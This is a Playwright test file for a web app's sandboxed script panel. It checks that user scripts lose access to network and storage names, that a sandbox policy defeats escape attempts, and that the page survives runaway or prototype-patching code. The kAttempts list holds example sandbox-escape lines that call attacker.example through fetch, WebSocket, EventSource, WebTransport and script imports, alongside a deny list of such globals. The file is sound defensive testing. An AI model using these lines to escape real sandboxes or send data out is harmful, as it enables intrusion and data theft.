// A visitor's script is sealed off: each attempt fails, by the names that are gone and by the policy beneath them, and the page lives.

import { type Page, test as plain } from '@playwright/test';
import { expect, kEveryLook, test } from './open.ts';

const panelOf = (page: Page) => page.locator('.hg-panel--script');
const button = (page: Page, name: string) => panelOf(page).getByRole('button', { name, exact: true });
const logOf = (page: Page) => panelOf(page).getByRole('log');
const saidOf = (page: Page) => panelOf(page).getByRole('status');
const problemOf = (page: Page) => panelOf(page).getByRole('alert');

async function run(page: Page, text: string): Promise<void> {
  const editor = panelOf(page).getByRole('textbox', { name: 'Script' });
  await editor.focus();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(text);
  await button(page, 'Run').click();
}

test.beforeEach(async ({ page }) => {
  await page.goto('./#scenario=burst_list&event=100&tab=script');
  await expect(panelOf(page).getByRole('textbox', { name: 'Script' })).toBeVisible();
});

const kNames = [
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'WebSocketStream',
  'WebTransport',
  'EventSource',
  'RTCPeerConnection',
  'importScripts',
  'Worker',
  'SharedWorker',
  'BroadcastChannel',
  'MessageChannel',
  'MessagePort',
  'indexedDB',
  'caches',
  'cookieStore',
  'navigator',
  'location',
  'origin',
  'postMessage',
  'addEventListener',
  'onmessage',
  'setTimeout',
  'close',
  'crypto',
  'Request',
  'Blob',
  'URL',
  'Notification',
  'webkitRequestFileSystem',
];

test('the names that lead out are gone, and innocent ones stay', async ({ page }) => {
  const names = JSON.stringify(kNames);
  const text = `const there = ${names}.filter((name) => { try { return eval('typeof ' + name) !== 'undefined'; } catch { return false; } });
console.log(there.join(' ') || 'none', new Map([[1, Math.max(1, 2)]]).get(1), JSON.stringify({ a: [1n].length }));
const own = []; for (let at = self; at; at = Object.getPrototypeOf(at)) own.push(...Reflect.ownKeys(at).map(String));
console.log(own.filter((name) => /fetch|port|message|worker|storage|cache|import|socket/i.test(name)).join(' ') || 'nothing');
heap.allocate(100);`;
  await run(page, text);
  await expect(saidOf(page)).toHaveText('1 call on the heap.');
  await expect(logOf(page)).toHaveText('none 2 {"a":1}nothing');
});

/** What the worker's code could do before the names were taken: here they are left, so that the policy alone must hold. */
const kAttempts: readonly (readonly [string, string])[] = [
  ['fetch', `await fetch('https://attacker.example/?' + 1)`],
  ['fetch of the page', `await fetch(PAGE + 'traces/words.hgtrace')`],
  ['XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', PAGE, false); x.send()`],
  [
    'WebSocket',
    `await new Promise((done, failed) => { const s = new WebSocket('wss://attacker.example'); s.onopen = done; s.onerror = failed })`,
  ],
  [
    'EventSource',
    `await new Promise((done, failed) => { const s = new EventSource('https://attacker.example'); s.onopen = done; s.onerror = failed })`,
  ],
  ['WebTransport', `const t = new WebTransport('https://attacker.example'); t.closed.catch(() => {}); await t.ready`],
  ['importScripts', `importScripts('https://attacker.example/x.js')`],
  ['importScripts of a blob', `importScripts(URL.createObjectURL(new Blob(['1'])))`],
  ['import of an address', `await import('https://attacker.example/x.js')`],
  ['import of data', `await import('data:text/javascript,export default 1')`],
  ['import of a blob', `await import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`],
  [
    'a worker of an address',
    `await new Promise((done, failed) => { const w = new Worker(PAGE + 'x.js'); w.onmessage = done; w.onerror = failed })`,
  ],
  [
    'indexedDB',
    `await new Promise((done, failed) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = failed })`,
  ],
  ['caches', `await caches.open('x')`],
  ['the file system', `await navigator.storage.getDirectory()`],
];

// Each violation is an error in the console, so the plain test looks on.
plain('beneath the names the frame has no network, no import and no storage', async ({ page, baseURL }) => {
  await page.goto('./');
  const answered: string[] = [];
  page.context().on('response', (response) => answered.push(response.url()));
  const answers = await page.evaluate(
    async ([attempts, address]) => {
      const code = `onmessage = async ({ ports: [port] }) => { const PAGE = ${JSON.stringify(address)};
        const attempt = async (name, body) => { try { await Promise.race([body(), new Promise((_, failed) => setTimeout(failed, 3000, 'silence'))]); port.postMessage(name + ': done'); } catch { port.postMessage(name + ': fails'); } };
        ${attempts.map(([name, body]) => `await attempt(${JSON.stringify(name)}, async () => { ${body} });`).join('\n')}
        port.postMessage('end'); }`;
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = 'sealed.html';
      document.body.append(frame);
      await new Promise((loaded) => {
        frame.onload = loaded;
      });
      const { port1, port2 } = new MessageChannel();
      const wasm = new ArrayBuffer(8);
      const outcomes: string[] = [];
      const ended = new Promise<void>((done) => {
        port1.onmessage = ({ data }) => (data === 'end' ? done() : outcomes.push(String(data)));
      });
      frame.contentWindow?.postMessage({ code, wasm, text: '' }, '*', [wasm, port2]);
      await ended;
      frame.remove();
      return outcomes;
    },
    [kAttempts, baseURL ?? ''] as const,
  );
  expect(answers).toEqual(kAttempts.map(([name]) => `${name}: fails`));
  expect(answered.filter((url) => /attacker|words\.hgtrace|x\.js/.test(url))).toEqual([]);
});

test.describe('the page lives', () => {
  const kEndings: readonly (readonly [string, string, RegExp])[] = [
    ['messages without end', 'for (;;) self.postMessage(1);', /postMessage is not a function/],
    ['lines without end', `for (;;) console.log('x'.repeat(5000));`, /did not end within 5 s/],
    [
      'a patched language',
      `Array.prototype.join = () => ({ length: 9 ** 9, slice: () => 'y'.repeat(2 ** 26) });\nfor (;;) console.log(1);`,
      /more than a page can take/,
    ],
    [
      'steps that are forged',
      `Object.prototype.toJSON = () => ({ operation: { op: 'write', at: 0, word: 1 }, type: 'steps', steps: [{}] });\nheap.allocate(1);`,
      /more than a page can take/,
    ],
    [
      'notes that are forged',
      `Object.prototype.toJSON = () => null;\nheap.allocate(1);`,
      /what is no call and no line/,
    ],
    ['calls without end', 'for (;;) try { heap.allocate(16); } catch {}', /did not end within 5 s/],
  ];
  // Daily on one page those that end at once; the limit of 5 s is in script_client.test.ts, too.
  const endings = kEndings.filter(([, , ending]) => kEveryLook || !/5 s/.test(ending.source));
  for (const those of kEveryLook ? endings.map((one) => [one]) : [endings]) {
    test(`with ${those.map(([name]) => name).join(', ')}`, async ({ page }) => {
      for (const [name, text, ending] of those)
        await test.step(name, async () => {
          await run(page, text);
          await expect(problemOf(page)).toHaveText(ending, { timeout: 45_000 });
          await run(page, `heap.allocate(1);\nconsole.log('alive');`);
          await expect(logOf(page)).toHaveText('alive');
          await expect(problemOf(page)).toHaveCount(0);
        });
    });
  }
});
